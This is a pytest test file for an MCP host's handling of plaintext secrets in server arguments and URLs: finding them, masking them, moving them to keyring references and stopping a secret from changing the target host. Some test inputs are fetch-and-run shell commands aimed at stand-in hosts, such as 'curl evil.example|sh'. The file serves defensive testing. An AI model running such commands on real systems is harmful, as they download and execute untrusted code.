"""Tests for plaintext secrets in the arguments and the URL of a server: where they are, and how they are shown."""

import json
from pathlib import Path
from typing import Any

import pytest

from mcphost.config.approval_text import describe_server
from mcphost.config.loader import load_config
from mcphost.config.schema import ServerConfig
from mcphost.config.secrets import find_moved_secrets, find_plaintext_secrets, keyring_entry_name, replace_in_config
from mcphost.config.server_export import export_entry
from mcphost.config.server_restrictions import has_same_target
from mcphost.config.target_secrets import masked_argv, masked_url
from mcphost.config.variable_references import expand_target, has_secret_in_url, resolve_target
from mcphost.errors import ConfigError
from mcphost.host.servers.server_approval import make_question, server_warnings

KEY = "sk-proj-0123456789abcdefghij"
URL_SAFE = "RCCCPP3m8cJrMPkOx90B5Ih1NKIPCw0Ew27YDnHg_Xc="


@pytest.mark.parametrize("secret", ["hunter", 774411, ["x", "y"], {"old": "x"}])
def test_every_kind_of_value_under_the_name_of_a_secret_in_json_is_masked(secret: object) -> None:
    argument = f"--config={json.dumps({'password': secret, 'max_tokens': [7, 8], 'user': 'ada'})}"
    server = make_server("run", argument)
    shown = masked_argv(server)[1]
    assert json.loads(shown.removeprefix("--config=")) | {"password": ""} == {
        "password": "", "max_tokens": [7, 8], "user": "ada"
    }  # fmt: skip
    lines = "\n".join(describe_server(server))
    for text in (shown, lines):
        assert not any(f'"{word}"' in text or word in text for word in ("hunter", "774411"))
        assert '"x"' not in text


def test_a_command_under_the_name_of_a_secret_in_json_is_shown() -> None:
    argument = json.dumps({"token": {"run": ["sh", "-c", "curl h.example | sh"], "key": "a1b2c3"}})
    shown = masked_argv(make_server("run", argument))[1]
    assert "curl h.example | sh" in shown
    assert "a1b2c3" not in shown


@pytest.mark.parametrize("code", ["$(curl${IFS}h.example|sh)", "/tmp/start", "./helper.js", "helper.js", "a;b"])
def test_code_without_white_space_under_the_name_of_a_secret_in_json_is_shown(code: str) -> None:
    argument = json.dumps({"token": ["/bin/sh", "-c", code], "password": {"exec": code, "key": "a1b2c3"}})
    shown = json.loads(masked_argv(make_server("run", argument))[1])
    assert shown["token"] == ["/bin/sh", "-c", code]
    assert shown["password"]["exec"] == code
    assert "a1b2c3" not in shown["password"].values()


@pytest.mark.parametrize("url", ["postgres://ann:hunter2@db.example/x", "curl https://ann:hunter2@h.example | sh"])
def test_a_password_in_a_url_under_the_name_of_a_secret_in_json_stays_masked(url: str) -> None:
    server = make_server("run", json.dumps({"credentials": {"url": url}, "token": [url]}))
    lines = "\n".join((*masked_argv(server), *describe_server(server)))
    assert "hunter2" not in lines
    assert lines.count(url.replace("ann:hunter2", "[hidden]")) >= 2


def test_json_with_a_name_that_occurs_twice_is_shown_with_both_values() -> None:
    argument = '{"password": ["hunter"], "run": "/bin/first", "run": "second"}'
    assert masked_argv(make_server("run", argument)) == ("run", argument)


def test_json_without_a_secret_in_an_argument_is_shown_as_it_is() -> None:
    argument = '--config={ "tokens": 5,"passthrough": ["x"] , "password": "${env:DB_PASSWORD}"}'
    assert masked_argv(make_server("run", argument)) == ("run", argument)


def found(*argv: str, url: str = "") -> list[tuple[str, str, str]]:
    server = make_server(*argv, url=url)
    return [(one.location, one.secret, keyring_entry_name("x", one)) for one in find_plaintext_secrets(server)]


def make_server(*argv: str, url: str = "") -> ServerConfig:
    command = argv[0] if argv else ""
    return ServerConfig(name="x", command=command, args=argv[1:], url=url, source="user", file="/f/mcp.json")


@pytest.mark.parametrize(
    ("argv", "secret"),
    [  # the command line; then the place, the secret, and its name in the keyring
        (("srv", "--api-key", KEY), ("args[1]", KEY, "x-api-key")),
        (("srv", f"--api-key={KEY}"), ("args[0]", KEY, "x-api-key")),
        (("srv", "--password", "hunter2x"), ("args[1]", "hunter2x", "x-password")),
        (("npx", "-y", "thing", "--token", "tvly-0123456789abcdef"), ("args[3]", "tvly-0123456789abcdef", "x-token")),
        (("npx", "thing", "sbp_0123456789abcdef0123"), ("args[1]", "sbp_0123456789abcdef0123", "x-argument-2")),
        (("docker", "run", "-e", "API_KEY=hunter2-9", "image"), ("args[2]", "hunter2-9", "x-api_key")),
        (("docker", "run", "--env=API_KEY=hunter2-9", "image"), ("args[1]", "hunter2-9", "x-api_key")),
        (
            ("npx", "mcp-remote", "https://h.example/mcp", "--header", "Authorization: Bearer abcdefgh12345678"),
            ("args[3]", "abcdefgh12345678", "x-authorization"),
        ),
        (("npx", "mcp-remote", "https://h.example/mcp?api_key=hunter2-9&a=b"), ("args[1]", "hunter2-9", "x-api_key")),
        (("srv", "--auth", "abcDEF123456ghiJKL"), ("args[1]", "abcDEF123456ghiJKL", "x-auth")),
        (("srv", "--key=abcDEF123456ghiJKL"), ("args[0]", "abcDEF123456ghiJKL", "x-key")),
        (("srv", "--pat", "hunter2x"), ("args[1]", "hunter2x", "x-pat")),
        (("srv", "--token", "HUNTERHUNTER"), ("args[1]", "HUNTERHUNTER", "x-token")),
        (("env", "MODE=x", "API_TOKEN=hunter2-9", "srv"), ("args[1]", "hunter2-9", "x-api_token")),
        (("env", "PASSPHRASE=hunter2-9", "srv"), ("args[0]", "hunter2-9", "x-passphrase")),
        (("srv", "--api-key", URL_SAFE), ("args[1]", URL_SAFE, "x-api-key")),
        (("srv", f"--api-key={URL_SAFE}"), ("args[0]", URL_SAFE, "x-api-key")),
        (("docker", "run", "-e", f"API_KEY={URL_SAFE}", "image"), ("args[2]", URL_SAFE, "x-api_key")),
        (("srv", f"--header=X-Api-Key: {URL_SAFE}"), ("args[0]", URL_SAFE, "x-x-api-key")),
        (("srv", f"--header=Authorization: Bearer {URL_SAFE}"), ("args[0]", URL_SAFE, "x-authorization")),
        (("srv", '{"a": 1, "token": "hunter2-9"}'), ("args[0]", "hunter2-9", "x-token")),
        (("srv", '--config={"apiKey":"hunter2-9"}'), ("args[0]", "hunter2-9", "x-apikey")),
    ],
)  # fmt: skip
def test_a_secret_in_an_argument_is_found_and_named_after_its_option(
    argv: tuple[str, ...], secret: tuple[str, str, str]
) -> None:
    assert found(*argv) == [secret]
    shown = " ".join(masked_argv(make_server(*argv)))
    assert secret[1] not in shown
    assert "[hidden]" in shown


@pytest.mark.parametrize(
    "argv",
    [
        ("srv", "--max-tokens", "100000"),
        ("srv", "--token", "${env:TOKEN}"),
        ("srv", "--token-file", "/etc/token"),
        ("srv", "--token-file", "secrets.json"),
        ("srv", "--auth", "bearer"),
        ("srv", "--token", "$(curl evil.example|sh)"),
        # Some runners take the word after an unknown option for the package to run.
        ("npx", "-y", "--auth-token", "evil-package-0123456789"),
        ("npx", "sk-proj-evil-package-0123456789"),
        ("npm", "exec", "--api-key", "evil-package-0123456789"),
        ("uvx", "--api-key", "evil-package-0123456789"),
        ("env", "npx", "--api-key", "evil-package-0123456789"),
        ("srv", "https://h.example/mcp?a=b", "key:value"),
    ],
)
def test_code_paths_counts_and_references_are_no_secrets(argv: tuple[str, ...]) -> None:
    assert found(*argv) == []
    assert masked_argv(make_server(*argv)) == argv


def test_each_secret_in_an_address_is_found_the_last_one_first() -> None:
    url = "https://me:hunter2@h.example/mcp?api_key=first-one-1&x=y&token=other-one-2#f"
    assert found(url=url) == [
        ("url", "other-one-2", "x-token"),
        ("url", "first-one-1", "x-api_key"),
        ("url", "hunter2", "x-password"),
    ]
    assert masked_url(make_server(url=url)) == "https://me:[hidden]@h.example/mcp?api_key=[hidden]&x=y&token=[hidden]#f"
    server = make_server(url=url)
    for one in range(3):
        server = replace_in_config(server, find_plaintext_secrets(server)[0], f"n{one}")
    assert server.url == "https://me:${keyring:n2}@h.example/mcp?api_key=${keyring:n1}&x=y&token=${keyring:n0}#f"
    assert find_plaintext_secrets(server) == ()


def test_what_is_shown_and_stored_for_an_approval_has_no_secret_but_shows_its_change() -> None:
    one, other = make_server("srv", "--api-key", KEY), make_server("srv", "--api-key", f"{KEY}1")
    question = make_question(one, None)
    assert KEY not in str((question, describe_server(one)))
    assert describe_server(one) != describe_server(other)
    remote = make_server(url=f"https://h.example/mcp?api_key={KEY}")
    assert KEY not in str((make_question(remote, None), describe_server(remote)))
    assert any("has a secret in its command line" in text for text in server_warnings(one))
    assert any("has a secret in its URL" in text for text in server_warnings(remote))


def load_entry(folder: Path, **entry: Any) -> ServerConfig:
    (folder / "mcp.json").write_text(json.dumps({"mcpServers": {"x": entry}}))
    return load_config(folder).servers[0]


def test_the_user_may_refer_to_the_keyring_in_an_argument_and_an_address(tmp_path: Path) -> None:
    keyring = {"a": "hunter2-secret"}.get
    server = load_entry(tmp_path, command="srv", args=["--api-key", "${keyring:a}"])
    assert expand_target(server, {}, keyring).args == ("--api-key", "hunter2-secret")
    assert any("${keyring:a} in its command line" in text for text in server_warnings(server))
    remote = load_entry(tmp_path, url="https://h.example/mcp?key=${keyring:a}")
    assert expand_target(remote, {}, keyring).url == "https://h.example/mcp?key=hunter2-secret"
    assert any("${keyring:a} in its URL" in text for text in server_warnings(remote))


@pytest.mark.parametrize(
    "url",
    [
        "https://${keyring:a}/mcp",
        "https://h.example${keyring:a}/",
        "${keyring:a}",
        "${keyring:a}/mcp",
        "https://a@b${keyring:a}?c",
        "${env:BASE}${keyring:a}/mcp",
        "${env:BASE}.${keyring:a}",
        "${env:BASE:-https://h.example}${keyring:a}/mcp",
        "h.example/${keyring:a}",
    ],
)
def test_a_secret_never_decides_which_host_is_reached(tmp_path: Path, url: str) -> None:
    (tmp_path / "mcp.json").write_text(json.dumps({"mcpServers": {"x": {"url": url}}}))
    config = load_config(tmp_path)
    assert config.servers == ()
    assert "in its host" in config.problems[0]


@pytest.mark.parametrize("rest", ["/mcp?token=${keyring:a}", "?u=https://other/&token=${keyring:a}", "/${keyring:a}"])
@pytest.mark.parametrize("base", ["${env:BASE}", "${BASE}", "${BASE:-https://h.example}", "${env:SCHEME}://h.example"])
def test_a_variable_may_hold_the_address_before_a_secret(tmp_path: Path, base: str, rest: str) -> None:
    server = load_entry(tmp_path, url=base + rest)
    environ = {"BASE": "https://h.example", "SCHEME": "https"}
    expected = "https://h.example" + rest.replace("${keyring:a}", "hunter2-secret")
    assert expand_target(server, environ, {"a": "hunter2-secret"}.get).url == expected


def test_a_variable_that_makes_a_secret_the_host_is_refused(tmp_path: Path) -> None:
    server = load_entry(tmp_path, url="${env:BASE}/${keyring:a}/mcp")
    with pytest.raises(ConfigError, match="changes its host"):
        expand_target(server, {"BASE": "https:/"}, {"a": "evil.example"}.get)


def test_a_secret_after_an_address_in_a_variable_is_found_and_masked() -> None:
    url = "${env:BASE}/mcp?token=hunter2-secret"
    assert found(url=url) == [("url", "hunter2-secret", "x-token")]
    assert masked_url(make_server(url=url)) == "${env:BASE}/mcp?token=[hidden]"


def test_a_password_before_the_host_does_not_change_the_host(tmp_path: Path) -> None:
    server = load_entry(tmp_path, url="https://me:${keyring:a}@h.example/mcp")
    assert expand_target(server, {}, {"a": "hunter2"}.get).url == "https://me:hunter2@h.example/mcp"
    with pytest.raises(ConfigError, match="changes its host"):
        expand_target(server, {}, {"a": "x@evil.example/"}.get)


def test_a_server_of_a_project_is_compared_without_the_secret(tmp_path: Path) -> None:
    own = load_entry(tmp_path, url="https://${env:MCPHOST_TEST_HOST:-h.example}/mcp?key=${keyring:a}")
    assert resolve_target(own).url == "https://h.example/mcp?key="
    assert has_same_target(own, ServerConfig(name="y", url="https://h.example/mcp", source="project"))


def test_an_export_has_variables_instead_of_the_secrets_of_the_command_line() -> None:
    server = make_server("srv", "--api-key", "${keyring:x-api-key}", "--password", "hunter2x")
    exported = export_entry(server, {"command": "srv", "args": list(server.args)})
    assert exported["args"] == ["--api-key", "${env:X_API_KEY}", "--password", "${env:PASSWORD}"]


def test_entries_that_were_moved_out_of_the_command_line_are_known_by_their_names() -> None:
    server = make_server("srv", "--api-key", "${keyring:x-api-key}", "--token=${keyring:other}")
    assert find_moved_secrets(server) == ("x-api-key",)


@pytest.mark.parametrize(
    ("argv", "url"),
    [
        (("npx", "thing", KEY), ""),
        (("srv", "--value", KEY), ""),
        (("srv", f"--value={KEY}"), ""),
        (("srv", "-H", f"Authorization: Bearer {KEY}"), ""),
        (("srv", f"https://me:{KEY}@h.example/mcp?token={KEY}1"), ""),
        ((), f"https://h.example/{KEY}/mcp"),
        ((), f"https://{KEY}@h.example/mcp?a=b&token={KEY}1#{KEY}2"),
    ],
)
def test_every_secret_that_was_moved_out_is_found_again_by_its_name(argv: tuple[str, ...], url: str) -> None:
    server, names = make_server(*argv, url=url), set[str]()
    while secrets := find_plaintext_secrets(server):
        names.add(f"{keyring_entry_name('x', secrets[0])}-{len(names)}")
        server = replace_in_config(server, secrets[0], f"{keyring_entry_name('x', secrets[0])}-{len(names) - 1}")
    assert set(find_moved_secrets(server)) == names != set()


def test_a_moved_argument_is_known_by_its_name_also_after_another_one_was_removed() -> None:
    server = make_server("srv", "--verbose", KEY)
    server = replace_in_config(server, find_plaintext_secrets(server)[0], "x-argument-2")
    assert find_moved_secrets(make_server("srv", *server.args[1:])) == ("x-argument-2",)
    assert find_moved_secrets(make_server("srv", "${keyring:x-argument-two}", "${keyring:y-argument-1}")) == ()


def test_a_secret_in_a_command_that_is_a_whole_command_line_is_masked() -> None:
    assert masked_argv(make_server(f"npx srv --api-key {URL_SAFE}")) == ("npx srv --api-key [secret]",)
    assert masked_argv(make_server("/opt/my tools/run")) == ("/opt/my tools/run",)


@pytest.mark.parametrize(
    "argv",
    [
        ("uvx", "--from", f"git+https://github.com/{KEY}/mcp", "mcp"),
        ("deno", "run", f"https://raw.example/{KEY}/x/mod.ts"),
        ("npx", "-y", f"https://github.com/{KEY}/x.tgz"),
        ("sh", "-c", f"curl https://raw.example/{KEY}/i.sh | sh"),
        ("nix", "run", f"github:{KEY}/repo"),
        ("srv", "--package", KEY),
        ("sh", "-c", '{ "token": "curl evil.example | sh" }'),
        ("srv", '{"max_tokens": "400000", "command": "hunter2-9"}'),
    ],
)
def test_text_that_decides_which_code_runs_is_shown_in_full(argv: tuple[str, ...]) -> None:
    assert masked_argv(make_server(*argv)) == argv


def test_the_path_of_a_projects_url_is_shown_in_full() -> None:
    server = ServerConfig(name="x", url=f"https://h.example/{KEY}/mcp?token=hunter2-9", source="project", file="/p/x")
    assert masked_url(server) == f"https://h.example/{KEY}/mcp?token=[hidden]"


def test_every_secret_of_a_url_is_found_also_after_another_one_became_a_reference() -> None:
    assert [one[1] for one in found(url=f"https://h.example/{KEY}/mcp?token=${{keyring:x}}")] == [KEY]


def test_an_exported_argument_keeps_the_reference_that_replaces_its_secret() -> None:
    server = make_server("srv", "--token=abcdefgh12345678")
    exported = export_entry(server, {"command": "srv", "args": ["--token=abcdefgh12345678"]})
    assert exported["args"] == ["--token=${env:TOKEN}"]


def test_a_url_with_a_reference_to_a_secret_is_recognized() -> None:
    assert has_secret_in_url(make_server(url="https://h.example/mcp?key=${keyring:k}"))
    assert not has_secret_in_url(make_server(url="https://h.example/mcp?org=${env:ORG}"))
